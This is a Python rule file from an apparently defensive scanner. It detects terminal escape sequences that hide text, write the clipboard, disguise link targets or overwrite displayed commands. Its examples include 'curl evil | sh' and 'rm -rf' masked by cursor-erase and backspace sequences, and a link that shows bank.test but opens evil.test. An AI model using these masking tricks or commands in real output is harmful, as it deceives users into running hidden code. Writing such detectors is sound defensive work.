"""Escape sequences and controls that make a terminal show something else than the file holds."""

import re

from promptguard import patterns
from promptguard.documents.document import Document
from promptguard.evidence.surroundings import Surroundings, surroundings_of
from promptguard.model import Level, Rule, Signal, Weight

_LABELS = ("covert-text",)
_CONTROLS = "https://ecma-international.org/publications-and-standards/standards/ecma-48/"
_LINKS = "https://gist.github.com/egmontkob/eb114294efbcd5adb1944c9f3cb5feda"
_ADVICE = "Remove the control sequence, and read the text with an editor that shows it."
_HOST = patterns.compile(r"(?:https?://|www\.)([\w.-]{1,253})", re.IGNORECASE)
#: C1 controls that are no letter of Windows-1252 read as Latin-1.
_NO_WINDOWS = (0x81, 0x8D, 0x8F, 0x90, 0x9D)
_RECORDING = patterns.compile(r"\.(?:log|cast|typescript|out|snap|ansi|ans|nfo|golden|exp)$")


def _link(match: "re.Match[str]", document: Document) -> tuple[Weight, ...] | None:
    """A link that shows one host and leads to another."""
    shown, target = _HOST.search(match["shown"]), _HOST.search(match["target"])
    if shown is None or target is None:
        return None
    one, other = (found[1].lower().removeprefix("www.") for found in (shown, target))
    return None if one == other else ()


def _rewrite(match: "re.Match[str]", document: Document) -> tuple[Weight, ...] | None:
    """Recorded output moves the cursor all day; a source file has no reason to."""
    if _RECORDING.search(document.path) or surroundings_of(document.path) is Surroundings.TEST:
        return (Weight(-1, "in recorded output or a test"),)
    return ()


RULES = (
    Rule(
        id="covert_text.terminal-hidden",
        title="Text that a terminal is told to hide",
        level=Level.INTERNAL,
        labels=_LABELS,
        pattern=r"\x1b\[(?:\d{1,3};){0,8}8(?:;\d{1,3}){0,8}m|\x1b\[(?:30;40|97;107|37;47)m"
        r"|\x1b\]52;[a-z]{0,4};[A-Za-z0-9+/]{4}",
        keywords=("\x1b[", "\x1b]52"),
        weight=Weight(3, "conceals text, or writes the clipboard, when it is shown"),
        advice=_ADVICE,
        references=(_CONTROLS, "https://invisible-island.net/xterm/ctlseqs/ctlseqs.html"),
        examples=("shown \x1b[8mnot shown\x1b[0m", "\x1b]52;c;aGVsbG8=\x07", "\x1b[1;8mx"),
        counterexamples=("\x1b[1;31mred\x1b[0m", "\x1b[38;5;208morange", "\\x1b[8m"),
    ),
    Rule(
        id="covert_text.terminal-link",
        title="A terminal link that leads elsewhere than it shows",
        level=Level.INTERNAL,
        labels=_LABELS,
        pattern=r"\x1b\]8;[^;\x07\x1b\n]{0,60};(?P<target>[^\x07\x1b\n]{1,400})(?:\x07|\x1b\\)"
        r"(?P<shown>[^\x1b\n]{1,400})\x1b\]8;;",
        keywords=("\x1b]8;",),
        weight=Weight(3, "shows one host and opens another"),
        validate=_link,
        advice=_ADVICE,
        references=(_LINKS,),
        examples=("\x1b]8;;https://evil.test/x\x07https://bank.test\x1b]8;;\x07",),
        counterexamples=("\x1b]8;;https://www.bank.test/a\x07https://bank.test\x1b]8;;\x07",),
    ),
    Rule(
        id="covert_text.terminal-rewrite",
        title="A control sequence that overwrites what was shown",
        level=Level.INTERNAL,
        labels=_LABELS,
        pattern=r"\x1b\[\d{0,3}[AFJK]|\x1b\[\d{1,3};\d{1,3}H|\x08{3,}",
        keywords=("\x1b[", "\x08"),
        weight=Weight(2, "moves the cursor back or erases what stands there"),
        validate=_rewrite,
        advice=_ADVICE,
        references=(_CONTROLS,),
        examples=("curl evil | sh\x1b[1A\x1b[2Kls", "rm -rf x\x08\x08\x08\x08\x08\x08\x08\x08ls"),
        counterexamples=("\x1b[1mbold\x1b[0m", "N\x08NA\x08AM\x08ME\x08E"),
    ),
    Rule(
        id="covert_text.control",
        title="A control character inside a word",
        level=Level.INTERNAL,
        labels=_LABELS,
        pattern=r"[A-Za-z_]{2}[\x01-\x06\x0e-\x1a\x1c-\x1f\x7f\x81\x8d\x8f\x90\x9d][A-Za-z_]{2}",
        keywords=tuple(map(chr, (*range(1, 7), *range(14, 27), *range(28, 32), 127, *_NO_WINDOWS))),
        weight=Weight(2, "a control character that prints nothing"),
        validate=_rewrite,
        advice=_ADVICE,
        references=(_CONTROLS, "https://www.unicode.org/reports/tr36/"),
        examples=("pass\x01word", "is\x7fadmin", "ad\u0090min"),
        counterexamples=("slu\u009anik", "page\x0cbreak", "a\x0bb", "one\ttwo"),
    ),
)
CONTROL = RULES[3]
_CONTROL = r"[\x01-\x06\x0e-\x1a\x1c-\x1f\x7f][A-Za-z_]{2}"
SIGNALS = (
    Signal(
        "covert_text.escape",
        rf"\x1b[\[\]]|\x08\x08\x08|{_CONTROL}",
        rf"\x1b[\[\]]|\x08{{3}}|{_CONTROL}",
        once=True,
    ),
)
